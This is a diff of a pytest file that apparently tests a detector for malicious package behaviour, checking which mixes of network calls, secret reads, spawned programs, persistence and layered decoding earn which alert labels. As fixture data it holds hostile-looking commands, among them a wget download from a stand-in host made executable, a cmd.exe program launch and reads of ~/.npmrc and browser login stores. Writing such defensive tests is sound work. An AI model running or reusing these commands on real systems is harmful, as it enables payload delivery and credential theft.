@@ -35,6 +35,14 @@ SECRET = fact(Kind.SECRET_READ, "~/.npmrc", 2, moment=CALL)
 LOGINS = fact(Kind.SECRET_READ, "~/x/Login Data", 2, moment=CALL)
 
 
+WRITE = fact(Kind.FS_WRITE, "/x/run.exe", moment=CALL)
+PROGRAM = fact(Kind.PROCESS_SPAWN, "start cmd.exe /c start /x/run.exe", 2, moment=CALL)
+SCRIPT = fact(Kind.PROCESS_SPAWN, "node /x/run.js", 2, moment=CALL)
+UNPACKED = fact(Kind.PROCESS_SPAWN, "wget -q https://files.invalid/x -O y && chmod +x y", moment=CALL)
+STARTED = ["starts-program"]
+LAYERED = fact(Kind.DECODE, "id", moment=CALL, via="base64>zlib>rot13>base64")
+
+
 @pytest.mark.parametrize(
     ("after", "expected"),
     [
@@ -50,6 +58,33 @@ LOGINS = fact(Kind.SECRET_READ, "~/x/Login Data", 2, moment=CALL)
         (called(NET, SECRET), ["secret-taken"]),
         (called(NET, LOGINS), ["browser-secrets"]),
         (called(NET, SECRET, path="test/index.js"), []),
+        (called(fact(Kind.NET_CONNECT, f"{HOOK[:-1]}{{}}", moment=CALL)), ["messenger"]),
+        (called(WRITE, PROGRAM, flow="data"), ["starts-program"]),
+        (called(WRITE, SCRIPT, flow="data"), []),
+        (called(WRITE, fact(Kind.PROCESS_SPAWN, "node /x/run.js", 2), flow="data"), ["load-starts", "starts-program"]),
+        (called(WRITE, fact(Kind.PROCESS_SPAWN, "cmd.exe /c dir", 2, moment=CALL), flow="data"), []),
+        (called(WRITE, fact(Kind.PROCESS_SPAWN, "git add x.py", 2), flow="data"), []),
+        (called(WRITE, fact(Kind.PROCESS_SPAWN, "{} add x.py", 2), flow="data"), ["load-starts"]),
+        (
+            called(fact(Kind.CODE_EVAL, "x", via="base64"), fact(Kind.LITERAL_URL, "https://a.invalid", via="base64")),
+            [],
+        ),
+        (called(UNPACKED), ["starts-program"]),
+        (called(NET, fact(Kind.FS_WRITE, "/x/Startup/y", 2), fact(Kind.PERSIST, None, 2), flow="data"), STARTED),
+        (called(NET, fact(Kind.FS_WRITE, "/x/Startup/y", 2), fact(Kind.PERSIST, None, 3), flow="data"), []),
+        (called(NET, fact(Kind.FS_WRITE, "/x/Startup/y", 2), fact(Kind.PERSIST, None, 2), flow="near"), []),
+        (called(fact(Kind.PROCESS_SPAWN, "chmod +x /x/run", moment=CALL)), []),
+        (called(LAYERED, EVAL, flow="near"), ["executes-layers"]),
+        (called(LAYERED, EVAL, flow="near", path="docs/index.js"), []),
+        (called(fact(Kind.LITERAL_URL, "https://a.invalid", via="base64")), ["address-encoded"]),
+        (called(fact(Kind.LITERAL_URL, "https://a.invalid", via="unescape")), ["address-encoded"]),
+        (called(fact(Kind.LITERAL_URL, "https://a.invalid", via="base64>zlib")), ["address-encoded"]),
+        (called(fact(Kind.LITERAL_URL, "https://a.invalid", moment=CALL, via="base64>zlib")), ["address-encoded"]),
+        (called(fact(Kind.NET_CONNECT, "https://a.invalid", moment=CALL, via="xor")), ["address-encoded"]),
+        (called(fact(Kind.PROCESS_SPAWN, "python3 -c 'import x'")), ["load-starts-code"]),
+        (called(fact(Kind.PROCESS_SPAWN, "pythonw deps.pyw")), ["load-starts-code"]),
+        (called(fact(Kind.PROCESS_SPAWN, "python3 -m pip install x")), ["load-starts-code"]),
+        (called(fact(Kind.PROCESS_SPAWN, "python3 --version")), ["load-starts"]),
         (
             called(fact(Kind.NET_CONNECT, "https://files.invalid/x"), fact(Kind.PROCESS_SPAWN, "/x/run", 2)),
             ["load-both"],
@@ -108,3 +143,21 @@ def test_a_copy_of_mail_in_no_file() -> None:
     )
 
     assert variants(mail_copied, view({FILE: "old"}), after) == []
+
+
+@pytest.mark.parametrize(
+    ("path", "reach", "moment", "expected"),
+    [
+        ("pad/more.js", Reach.CALL, Moment.LOAD, ["load-decodes"]),
+        ("pad/more.js", Reach.CALL, CALL, ["executes-decoded"]),
+        ("pad/more.js", Reach.UNREACHED, Moment.LOAD, ["executes-decoded"]),
+        ("pad/more.ps1", Reach.CALL, Moment.LOAD, ["executes-decoded"]),
+        ("pad/more.js", Reach.IMPORT, Moment.LOAD, []),
+    ],
+)
+def test_decoded_text_that_a_module_executes(path: str, reach: Reach, moment: Moment, expected: list[str]) -> None:
+    """When it is loaded by its own name, or when it is called; what runs by itself is asked elsewhere."""
+    placed = fact(Kind.CODE_EVAL, "id", moment=moment, via="base64")
+    after = view({path: "new"}, {path: (placed,)}, {path: reach})
+
+    assert [one.variant for one in acts_at_first_contact.detect(update(None, after))] == expected
